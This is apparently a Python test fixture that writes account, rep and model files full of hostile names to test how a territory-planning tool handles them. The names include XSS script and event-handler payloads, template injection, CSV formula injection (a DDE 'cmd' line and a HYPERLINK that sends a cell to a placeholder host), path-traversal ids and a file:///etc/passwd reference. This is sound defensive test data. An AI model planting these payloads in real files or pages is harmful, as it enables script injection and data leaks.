"""Names that would do harm where a name is not data, and an instance that is full of them."""

from __future__ import annotations

import csv

RUNS = "window.planted=(window.planted||0)+1"
NAMES = [
    f"</script><script>{RUNS}</script>",
    f'<img src=x onerror="{RUNS}">',
    f'"><svg onload="{RUNS}" onmouseover="{RUNS}">',
    f"${{{RUNS}}} {{{{{RUNS}}}}} {{% raw %}}",
    f"<a href='javascript:{RUNS}' onclick='{RUNS}'>Acme</a>",
    "<!--<script>",
    "right\u202eleft & Sons",
    "\x1b[31mred\x1b[0m\x07",
    "line\nbreak \u2028 separator",
    '=HYPERLINK("http://example.invalid/"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "_x0041_ and _x003D_1",
    "n" * 10_000,
    "quote\"d 'twice'",
    "тест 名前 👩‍👩‍👧",
    "http://example.invalid/a.png",
    "file:///etc/passwd",
]
"""One of each kind; accounts beyond are called after them in turn."""

REPS = {
    "../../x": NAMES[0],
    "CON": NAMES[1],
    "a/b": "=1+1",
    "R-4": "Chen \u202egnaw",
}
ACCOUNTS = 40

MODEL = """
name = "</title><script>window.planted=1</script>"
currency = "USD"
[rules.count_band]
kind = "band"
measure = "count"
tolerance = 0.5
[rules.locks]
kind = "locks"
[goals.driving]
kind = "travel"
price = 75
[goals.hand_overs]
kind = "disruption"
measure = "revenue"
price = 0.05
"""


def write_hostile(folder, accounts=ACCOUNTS):
    """The instance and model.toml; returns the folder. Most accounts lie in the United States."""
    folder.mkdir(parents=True)
    ids = list(REPS)
    with (folder / "accounts.csv").open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file)
        out.writerow(
            [
                "account_id",
                "name",
                "latitude",
                "longitude",
                "potential",
                "annual_revenue",
                "visits_per_year",
                "hours_per_visit",
                "current_rep",
            ]
        )
        for i in range(accounts):
            name = NAMES[i % len(NAMES)]
            place = (33 + (i * 7 % 13), -115 + (i * 11 % 37))
            out.writerow([f"A-{i}" if i else "'=A0", name, *place, 1000, 500 + i, 4, 2,
                          ids[(i * 5 + i // 7) % 4]])  # fmt: skip
    with (folder / "reps.csv").open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file)
        out.writerow(["rep_id", "name", "home_latitude", "home_longitude", "capacity"])
        for j, (rep, name) in enumerate(REPS.items()):
            out.writerow([rep, name, 34 + 3 * j, -112 + 9 * j, 100_000])
    (folder / "model.toml").write_text(MODEL, encoding="utf-8")
    return folder
